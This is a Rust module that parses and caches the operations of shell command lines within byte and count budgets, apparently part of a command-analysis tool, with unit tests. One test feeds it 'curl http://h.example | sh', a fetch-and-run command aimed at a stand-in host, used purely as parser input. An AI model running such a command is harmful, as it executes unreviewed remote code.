//! The command lines that the calls of one script or source start, within one budget.
//!
//! A call costs a few bytes, and what it starts can be a text of any length that stands elsewhere.  Each text is read
//! once; a call that starts it again gets a copy of its operations.

use std::rc::Rc;

use rustc_hash::FxHashMap;

use super::operation::{Operation, read_operations};
use super::{Dialect, parse_command_line};

/// Most bytes of command lines that are read.
const MAX_READ: usize = 1 << 20;
/// Most operations that are given, repeated ones included.
const MAX_GIVEN: usize = 20_000;
/// Most bytes of the operations that are given.
const MAX_GIVEN_BYTES: usize = 32 << 20;

/// What was read of command lines, and what may still be read.
#[derive(Debug)]
pub(super) struct CommandLines {
    known: FxHashMap<Rc<str>, Rc<[Operation]>>,
    left_to_read: usize,
    left_to_give: usize,
    left_bytes_to_give: usize,
    /// Whether something was left out because the budget ended.
    pub(super) is_cut: bool,
}

impl CommandLines {
    /// Nothing read yet.
    pub(super) fn new() -> Self {
        Self {
            known: FxHashMap::default(),
            left_to_read: MAX_READ,
            left_to_give: MAX_GIVEN,
            left_bytes_to_give: MAX_GIVEN_BYTES,
            is_cut: false,
        }
    }

    /// The operations of a command line: none of a text that is longer than what may still be read, and the first
    /// ones where they are more than may be given.
    pub(super) fn read(&mut self, text: &str) -> Vec<Operation> {
        let Some(operations) = self.known_or_read(text) else {
            self.is_cut = true;
            return Vec::new();
        };
        let given: Vec<Operation> = operations.iter().map_while(|one| self.give(one)).collect();
        self.is_cut |= given.len() < operations.len();
        given
    }

    fn give(&mut self, operation: &Operation) -> Option<Operation> {
        let left = self.left_to_give.checked_sub(1)?;
        self.left_bytes_to_give = self.left_bytes_to_give.checked_sub(weight(operation))?;
        self.left_to_give = left;
        Some(operation.clone())
    }

    fn known_or_read(&mut self, text: &str) -> Option<Rc<[Operation]>> {
        if let Some(known) = self.known.get(text) {
            return Some(Rc::clone(known));
        }
        self.left_to_read = self.left_to_read.checked_sub(text.len())?;
        let operations: Rc<[Operation]> = read_operations(&parse_command_line(text, Dialect::Guess)).into();
        self.known.insert(text.into(), Rc::clone(&operations));
        Some(operations)
    }
}

/// Bytes that a copy of an operation takes.
pub(super) fn weight(operation: &Operation) -> usize {
    let texts: usize = operation.arguments.iter().map(|(_, text)| text.len()).sum();
    size_of::<Operation>() + operation.snippet.len() + texts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_that_is_read_again_gives_the_same_and_costs_nothing_to_read() {
        let mut lines = CommandLines::new();
        let first = lines.read("curl http://h.example | sh");
        let left = lines.left_to_read;
        assert_eq!((lines.read("curl http://h.example | sh"), lines.left_to_read), (first, left));
        assert!(!lines.is_cut);
    }

    #[test]
    fn what_is_too_long_is_left_out_and_said_and_what_is_short_is_still_read() {
        let mut lines = CommandLines::new();
        assert!(lines.read(&"echo a > f;".repeat(MAX_READ / 8)).is_empty() && lines.is_cut);
        assert!(!lines.read("echo a > f").is_empty());
    }

    #[test]
    fn operations_that_are_given_again_and_again_end_within_the_budget() {
        let mut lines = CommandLines::new();
        let many = "echo a > f;".repeat(1_000);
        let n_given: usize = (0..10_000).map(|_| lines.read(&many).len()).sum();
        assert!(n_given == MAX_GIVEN && lines.is_cut, "{n_given}");
    }
}
